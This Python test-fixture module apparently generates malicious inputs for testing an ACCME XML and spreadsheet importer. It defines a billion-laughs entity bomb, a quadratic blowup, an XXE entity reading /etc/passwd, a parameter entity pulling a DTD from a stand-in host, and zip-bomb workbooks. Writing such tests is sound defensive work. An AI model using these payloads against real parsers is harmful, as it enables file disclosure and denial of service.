"""Files that somebody made to do harm: small ones that become large, and XML that reaches outside itself."""

import io
import zipfile
from collections.abc import Mapping

from tests.formats.generators.workbooks import MAIN, Sheet, workbook

_LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ROOT = (
    "<ACCMEActivities><MedicalEducationMetrics><title>{}</title></MedicalEducationMetrics></ACCMEActivities>"
)
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ACCMEActivities [{}]>\n'

LAUGHS = _HEAD.format(f'<!ENTITY l0 "lol">{_LOL}') + _ROOT.format("&l9;")
QUADRATIC = _HEAD.format(f'<!ENTITY a "{"a" * 50_000}">') + _ROOT.format("&a;" * 50_000)
EXTERNAL = _HEAD.format('<!ENTITY passwords SYSTEM "file:///etc/passwd">') + _ROOT.format("&passwords;")
PARAMETER = _HEAD.format('<!ENTITY % far SYSTEM "http://test.example/far.dtd"> %far;') + _ROOT.format("x")


def archive(parts: Mapping[str, bytes]) -> bytes:
    """Return an archive of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return stream.getvalue()


def without(data: bytes, name: str) -> bytes:
    """Return an archive without one of its parts."""
    return archive({part: inside for part, inside in _parts(data).items() if part != name})


def with_part(data: bytes, name: str, inside: bytes) -> bytes:
    """Return an archive with one of its parts replaced."""
    return archive({**_parts(data), name: inside})


def locked(data: bytes) -> bytes:
    """Return an archive whose parts are marked as encrypted."""
    marked = bytearray(data)
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(sign)
        while at >= 0:
            marked[at + flags] |= 1
            at = marked.find(sign, at + 1)
    return bytes(marked)


def up_to(data: bytes, last: bytes) -> bytes:
    """Return a file that ends with these bytes of it, wherever they come last."""
    return data[: data.rindex(last) + len(last)]


def string_bomb(size: int) -> bytes:
    """Return a workbook whose list of texts unpacks to about so many bytes."""
    text = b"<si><t>" + b"A" * 1_000_000 + b"</t></si>"
    plain = workbook({"Activities": Sheet([["Activity Title", "Start Date"], ["x", "y"]])})
    name = "xl/_rels/workbook.xml.rels"
    relation = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    relations = _parts(plain)[name].replace(b"</Relationships>", relation)
    stream = io.BytesIO(with_part(plain, name, relations))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        made.writestr(
            "xl/sharedStrings.xml", _repeated(f'<sst xmlns="{MAIN}">'.encode(), text, size, b"</sst>")
        )
    return stream.getvalue()


def rows_bomb(count: int) -> bytes:
    """Return a workbook of so many rows without anything in them."""
    head = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    sheet = head + b"<row></row>" * count + b"</sheetData></worksheet>"
    return with_part(workbook({"Activities": Sheet()}), "xl/worksheets/sheet1.xml", sheet)


def row_bomb(size: int) -> bytes:
    """Return a workbook with one row that unpacks to about so many bytes."""
    stream = io.BytesIO(without(workbook({"Activities": Sheet()}), "xl/worksheets/sheet1.xml"))
    head = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">'.encode()
    cells = b"<c><v>1</v></c>" * 100_000
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        made.writestr(
            "xl/worksheets/sheet1.xml", _repeated(head, cells, size, b"</row></sheetData></worksheet>")
        )
    return stream.getvalue()


def _repeated(head: bytes, piece: bytes, size: int, tail: bytes) -> bytes:
    return head + piece * (size // len(piece)) + tail


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        return {name: made.read(name) for name in made.namelist()}
